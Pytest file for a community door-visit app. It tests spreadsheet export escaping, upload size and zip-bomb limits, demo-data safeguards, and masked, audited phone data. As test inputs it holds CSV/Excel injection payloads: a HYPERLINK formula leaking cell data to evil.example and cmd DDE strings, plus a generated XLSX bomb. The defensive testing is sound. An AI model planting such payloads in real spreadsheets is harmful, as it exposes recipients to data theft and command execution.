"""Issue 13, the data share: spreadsheets that run no formulas, uploads that cannot blow up a worker,
demo data kept to development, phones read only on purpose, tags and imports that leave a mark."""

import csv
import io
import re
import uuid
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from fieldapp.extensions import db
from fieldapp.models import WeeklyReport
from fieldapp.reports.cells import FORMULA_START, safe_cell
from fieldapp.reports.weekly import week_bounds
from fieldapp.visits.rules import VisitInput
from fieldapp.visits.services import record_visit

ROOT = Path(__file__).resolve().parent.parent

# Names a lead controls (forms, imported rosters), each one a formula in a spreadsheet.
GRID = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
COMMUNITY = "+cmd|' /C calc'!A0"
BUILDING = "@SUM(1+1)*cmd|' /C calc'!A0"
ROOM = "-2+3"


def text_cells_of_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def text_cells_of_xlsx(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(cells, expected):
    texts = [cell for cell in cells if isinstance(cell, str)]
    live = [cell for cell in texts if cell.startswith(FORMULA_START)]
    assert live == [], f"cells a spreadsheet would run as formulas: {live}"
    for name in expected:
        assert "'" + name in texts or any(("'" + name) in cell for cell in texts), f"{name!r} missing"


def test_safe_cell_quotes_formula_text_and_leaves_numbers_alone():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("东门一网格") == "东门一网格" and safe_cell("") == ""
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


def test_names_a_lead_typed_reach_no_export_as_live_formulas(world, browser):
    world.a.grid.name, world.a.community.name, world.a.building.name = GRID, COMMUNITY, BUILDING
    world.a.sites[0].unit, world.a.sites[0].room = "", ROOM
    visit, _ = record_visit(world.a.volunteer, world.a.sites[0], VisitInput("talked", 2, 1), str(uuid.uuid4()))
    db.session.commit()
    week = week_bounds(visit.day)[0].isoformat()
    browser.login("district-admin")
    area = world.district.id

    weekly_csv = browser.client.get(f"/reports/weekly.csv?area={area}&week={week}")
    assert_no_live_formula(text_cells_of_csv(weekly_csv.data), [GRID, COMMUNITY])
    weekly_xlsx = browser.client.get(f"/reports/weekly.xlsx?area={area}&week={week}")
    cells = text_cells_of_xlsx(weekly_xlsx.data)
    assert_no_live_formula(cells, [GRID, COMMUNITY])
    assert any(isinstance(cell, int) for cell in cells)  # numbers stay numbers

    visits_csv = browser.client.get(f"/reports/visits.csv?area={area}")
    assert_no_live_formula(text_cells_of_csv(visits_csv.data), [GRID, COMMUNITY, BUILDING, ROOM])
    visits_xlsx = browser.client.get(f"/reports/visits.xlsx?area={area}")
    cells = text_cells_of_xlsx(visits_xlsx.data)
    assert_no_live_formula(cells, [GRID, COMMUNITY, BUILDING, ROOM])
    assert visit.id in cells  # the id column is still a number


def test_a_published_report_freezes_quoted_names_not_formulas(world, browser):
    world.a.grid.name = GRID
    visit, _ = record_visit(world.a.volunteer, world.a.sites[0], VisitInput("talked", 1, 1), str(uuid.uuid4()))
    db.session.commit()
    week = week_bounds(visit.day)[0].isoformat()
    browser.login("a-supervisor")
    assert browser.post("/reports/weekly/publish", {"area": str(world.a.area.id), "week": week}).status_code == 303
    report = db.session.scalar(select(WeeklyReport))
    assert_no_live_formula(text_cells_of_csv(report.csv), [GRID])
    assert_no_live_formula(text_cells_of_xlsx(report.xlsx), [GRID])


def test_no_module_writes_spreadsheet_cells_around_the_one_safe_path():
    """Every CSV writer and openpyxl workbook is made in reports/cells.py, so no export can miss it."""
    allowed = {ROOT / "fieldapp" / "reports" / "cells.py"}
    pattern = re.compile(r"csv\.writer\(|\bWorkbook\(|from openpyxl import[^\n]*\bWorkbook\b|DictWriter\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "fieldapp").rglob("*.py")
        if path not in allowed and pattern.search(path.read_text())
    ]
    assert offenders == []


# --- Uploads: XLSX bombs, malformed files, per-route size limits -----------------------------------------


def xlsx_with_sheet(sheet_xml: bytes) -> bytes:
    """A real workbook (from openpyxl) whose first sheet's XML is replaced by `sheet_xml`."""
    from tests.test_roster import HEADER_ZH, xlsx_bytes

    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([], header=HEADER_ZH)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for member in source.infolist():
            data = sheet_xml if member.filename == "xl/worksheets/sheet1.xml" else source.read(member)
            target.writestr(member.filename, data)
    return out.getvalue()


SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xe6\xb4\xbe\xe5\x87\xba\xe6\x89\x80</t></is></c></row>'
)


def bomb() -> bytes:
    """About 60 KB that unpacks to 40 MB of harmless whitespace inside the sheet: ratio beyond 600."""
    return xlsx_with_sheet(SHEET_HEAD + b" " * (40 * 2**20) + b"</sheetData></worksheet>")


def broken_rows() -> bytes:
    """A zip that opens, with a sheet whose XML breaks after its first row."""
    return xlsx_with_sheet(SHEET_HEAD + b'<row r="2"><c r="A2"><v>1</v></c><row><broken')


def test_an_xlsx_bomb_is_refused_on_the_import_page_before_it_is_opened(world, browser, monkeypatch):
    from tests.test_roster import upload

    data = bomb()
    assert len(data) < 256 * 1024
    opened = []
    monkeypatch.setattr("fieldapp.roster.sheets.read_xlsx", lambda *a, **k: opened.append(1) or 1 / 0)
    browser.login("a-lead")
    response = upload(browser, data, "bomb.xlsx")
    assert response.status_code == 422
    assert "40 MB" in response.text and opened == []


def test_a_malformed_xlsx_is_a_refusal_on_the_form_in_the_job_and_in_the_command(app, world, browser, tmp_path):
    from fieldapp.roster import jobs
    from tests.test_roster import upload

    browser.login("a-lead")
    for data in (broken_rows(), bomb()[:5000]):  # XML broken halfway through; a truncated zip
        response = upload(browser, data, "roster.xlsx")
        assert response.status_code == 422 and "Excel" in response.text

    job_id = jobs.create_job(world.a.lead, world.district, "roster.xlsx", broken_rows())
    assert jobs.run_import(job_id, world.district, world.a.lead) is None
    state = jobs.read_state(job_id)
    assert state["status"] == "failed" and "Excel" in state["reason"]

    path = tmp_path / "roster.xlsx"
    path.write_bytes(broken_rows())
    result = app.test_cli_runner().invoke(args=["import-sites", str(path)])
    assert result.exit_code == 1 and "Excel" in result.output and result.exception.__class__ is SystemExit


def post_file(browser, url: str, content: bytes, filename: str):
    """A multipart upload built here, in memory: the test client spools large bodies to a temporary file
    that a request refused unread (413) would leave open."""
    from tests.conftest import csrf_from

    token = csrf_from(browser.client.get(url).text).encode()
    body = (
        b'--b0undary\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n' + token + b"\r\n"
        b'--b0undary\r\nContent-Disposition: form-data; name="file"; filename="' + filename.encode() + b'"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n" + content + b"\r\n--b0undary--\r\n"
    )
    return browser.client.post(url, data=body, content_type="multipart/form-data; boundary=b0undary")


def test_a_300_kb_roster_is_accepted_and_an_oversize_one_refused_in_the_users_language(world, browser):
    from tests.test_roster import csv_bytes, good_rows

    data = csv_bytes(good_rows(world, buildings=40))
    assert 300 * 1024 <= len(data) < 16 * 2**20
    browser.login("a-lead")
    response = post_file(browser, "/imports", data, "roster.csv")
    assert response.status_code == 200, response.text[:500]

    browser.client.set_cookie("lang", "en")
    too_big = post_file(browser, "/imports", data * 60, "roster.csv")
    assert too_big.status_code == 413 and "too large" in too_big.text
    browser.client.set_cookie("lang", "zh")
    assert "太大" in post_file(browser, "/imports", data * 60, "roster.csv").text


def test_a_300_kb_outbox_file_reaches_the_import_and_a_larger_than_allowed_one_does_not(world, browser):
    browser.login("a-supervisor")

    def send(size: int):
        body = b'{"format": "fieldapp-outbox", "user": "a-volunteer", "visits": []' + b" " * size + b"}"
        return post_file(browser, "/outbox/import", body, "outbox.json")

    assert send(300 * 1024).status_code == 200
    assert send(5 * 2**20).status_code == 413


# --- Demo data: only the embedded database, always announced ----------------------------------------------


def test_demo_data_refuses_a_database_server_and_make_runs_if_empty_skips_it(app, monkeypatch):
    from fieldapp.models import Area

    monkeypatch.setitem(app.config, "SQLALCHEMY_DATABASE_URI", "postgresql+psycopg://db.example/fieldapp")
    runner = app.test_cli_runner()
    refused = runner.invoke(args=["demo-data"])
    assert refused.exit_code == 1 and "embedded SQLite" in refused.output
    skipped = runner.invoke(args=["demo-data", "--if-empty"])
    assert skipped.exit_code == 0 and "not loaded" in skipped.output
    assert db.session.scalar(select(Area.id).limit(1)) is None


def test_a_loaded_demo_is_recorded_every_page_says_so_and_a_start_outside_make_run_warns(
    app, client, monkeypatch, caplog
):
    from fieldapp.demo import DEMO_RUN_ENV, load_demo, warn_about_demo_accounts
    from fieldapp.models import Setting

    assert "演示数据" not in client.get("/login").text
    load_demo(days_of_visits=1)
    assert db.session.get(Setting, "demo_loaded") is not None
    assert "演示数据" in client.get("/login").text
    client.set_cookie("lang", "en")
    assert "Demo data" in client.get("/login").text

    monkeypatch.delenv(DEMO_RUN_ENV, raising=False)
    with caplog.at_level("WARNING"):
        assert warn_about_demo_accounts(app) == ["admin", "lead", "supervisor", "volunteer"]
    assert "DEMO ACCOUNTS WITH THE PUBLISHED PASSWORD" in caplog.text
    monkeypatch.setenv(DEMO_RUN_ENV, "1")  # make run on the embedded database: expected, no warning
    expected = [] if app.config["SQLALCHEMY_DATABASE_URI"].startswith("sqlite") else ["admin"]
    assert warn_about_demo_accounts(app)[:1] == expected

    page = client.post("/login", data={"username": "admin", "password": "fieldapp-demo", "csrf_token": csrf(client)})
    assert page.status_code in (302, 303)
    accounts = client.get("/admin/users").text
    assert "Demo accounts with the published password are present" in accounts and "volunteer" in accounts


def csrf(client) -> str:
    from tests.conftest import csrf_from

    return csrf_from(client.get("/login").text)


# --- Tags, outbox imports, QR base URL ---------------------------------------------------------------------


def test_a_volunteer_binding_a_blank_tag_cannot_retire_another_doors_working_tag(world, browser):
    from fieldapp.models import Tag
    from fieldapp.tags.services import mint_tag

    a = world.a
    blank = mint_tag(a.grid)
    working = a.sites[0].active_tag
    db.session.commit()
    browser.login("a-volunteer")
    refused = browser.post(f"/h/{blank.token}/bind", {"site_id": str(a.sites[0].id)})
    assert refused.status_code == 422 and "这户已有在用的门牌码" in refused.text
    db.session.refresh(working)
    assert working.retired_at is None and db.session.get(Tag, blank.id).site_id is None

    browser.post("/logout", {})
    browser.login("a-lead")  # who keeps the roster may replace a tag that was lost, with a blank one
    assert browser.post(f"/h/{blank.token}/bind", {"site_id": str(a.sites[0].id)}).status_code == 303
    db.session.refresh(working)
    assert working.retired_at is not None and db.session.get(Tag, blank.id).site_id == a.sites[0].id


def test_visits_from_an_imported_outbox_carry_the_supervisor_who_imported_them(world, browser):
    from fieldapp.models import Visit
    from tests.test_offline import outbox_visit, saved_outbox, upload

    site = world.a.sites[0]
    browser.login("a-supervisor")
    assert upload(browser, saved_outbox("a-volunteer", [outbox_visit(site)])).status_code == 200
    visit = db.session.scalar(select(Visit))
    assert visit.user_id == world.a.volunteer.id and visit.imported_by_id == world.a.supervisor.id
    log = browser.client.get(f"/log?day={visit.day.isoformat()}").text
    assert "甲派出所负责人" in log and "导入" in log
    door = browser.client.get(f"/h/{site.active_tag.token}").text
    assert "甲派出所负责人" in door


def test_tag_qr_codes_never_follow_the_host_header_on_a_database_server(app, world, browser):
    from fieldapp.tags.labels import tag_url

    tag = world.a.sites[0].active_tag
    browser.login("a-lead")
    embedded = app.config["SQLALCHEMY_DATABASE_URI"].startswith("sqlite")
    app.config["BASE_URL"] = None
    response = browser.client.get(f"/tags/{tag.id}/label.png")
    if embedded:  # development: the address the developer's phone opened
        assert response.status_code == 200
        with app.test_request_context("/", headers={"Host": "evil.example"}):
            assert tag_url(tag).startswith("http://evil.example/h/")
    else:
        assert response.status_code == 503 and "FIELDAPP_BASE_URL" in response.text
        assert browser.client.get(f"/areas/{world.a.building.id}/tags.pdf").status_code == 503

    app.config["BASE_URL"] = "https://fz.example.cn"
    with app.test_request_context("/", headers={"Host": "evil.example"}):
        assert tag_url(tag) == f"https://fz.example.cn/h/{tag.token}"


# --- Phones and a household's personal data ------------------------------------------------------------------

PHONE = "13812341234"  # world.a.sites[0]'s, as the factory stores it
DOOR = {"unit": "1", "floor": "1", "room": "101", "residents": "3", "kind": "household", "status": "occupied"}


def phone_reads(site) -> int:
    from fieldapp.models import AuditEvent

    return len(
        db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "site.phone_read", AuditEvent.object_id == site.id)
        ).all()
    )


def test_the_door_edit_form_shows_the_phone_masked_and_a_blank_field_keeps_it(world, browser):
    site = world.a.sites[0]
    browser.login("a-lead")
    page = browser.client.get(f"/sites/{site.id}/edit")
    assert PHONE not in page.text and "138****1234" in page.text
    assert page.headers["Cache-Control"] == "no-store"
    assert browser.post(f"/sites/{site.id}/edit", {**DOOR, "residents": "4", "contact_phone": ""}).status_code == 303
    db.session.refresh(site)
    assert site.contact_phone == PHONE and site.residents == 4
    assert browser.post(f"/sites/{site.id}/edit", {**DOOR, "remove_phone": "y"}).status_code == 303
    db.session.refresh(site)
    assert site.contact_phone is None


def test_show_number_reveals_it_once_for_roster_keepers_and_every_reading_is_audited(world, browser):
    site = world.a.sites[0]
    browser.login("a-lead")
    assert phone_reads(site) == 0
    shown = browser.post(f"/sites/{site.id}/phone", {})
    assert shown.status_code == 200 and PHONE in shown.text and shown.headers["Cache-Control"] == "no-store"
    assert phone_reads(site) == 1
    assert PHONE not in browser.client.get(f"/sites/{site.id}/edit").text  # once: the next page is masked again
    browser.post("/logout", {})
    browser.login("a-volunteer")
    assert browser.post(f"/sites/{site.id}/phone", {}).status_code == 403
    assert phone_reads(site) == 1


def test_a_households_personal_data_is_exported_and_erased_audited_with_tallies_unchanged(world, browser):
    from fieldapp.models import AuditEvent, DailyTally, Visit
    from fieldapp.tallies import recount_differences

    site = world.a.sites[0]
    site.householder = "欧阳娜娜"
    fix = {"lat": 30.0001, "lon": 120.0001, "accuracy_m": 8.0}
    record_visit(world.a.volunteer, site, VisitInput("not_home", note="敲门无人", **fix), str(uuid.uuid4()))
    record_visit(world.a.volunteer, site, VisitInput("talked", 2, 1, note="老人独居", **fix), str(uuid.uuid4()))
    db.session.commit()

    def tallies():
        return sorted(
            (t.area_id, t.day, t.visits, t.households_covered, t.app_installs, t.people_reached)
            for t in db.session.scalars(select(DailyTally))
        )

    before = tallies()
    browser.login("a-lead")  # the building lead keeps the roster, but personal data is the supervisor's call
    assert browser.post(f"/sites/{site.id}/erase", {}).status_code == 403
    browser.post("/logout", {})
    browser.login("a-supervisor")
    exported = browser.post(f"/sites/{site.id}/personal-data", {})
    assert exported.status_code == 200 and exported.headers["Cache-Control"] == "no-store"
    assert exported.json["contact_phone"] == PHONE and exported.json["householder"] == "欧阳娜娜"
    assert [v["note"] for v in exported.json["visits"]] == ["敲门无人", "老人独居"]
    assert exported.json["visits"][0]["lat"] == 30.0001

    assert browser.post(f"/sites/{site.id}/erase", {}).status_code == 303
    db.session.refresh(site)
    visits = db.session.scalars(select(Visit).where(Visit.site_id == site.id)).all()
    assert site.contact_phone is None and site.householder is None
    assert all(v.note == "" and v.lat is None and v.lon is None and v.accuracy_m is None for v in visits)
    assert tallies() == before and recount_differences() == []
    actions = db.session.scalars(select(AuditEvent.action).where(AuditEvent.object_id == site.id)).all()
    assert "site.personal_export" in actions and "site.personal_erase" in actions
    erased = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "site.personal_erase"))
    assert erased.before == {"householder": "欧阳某", "contact_phone": "138****1234", "notes": 2, "gps_fixes": 2}
    assert erased.user_id == world.a.supervisor.id
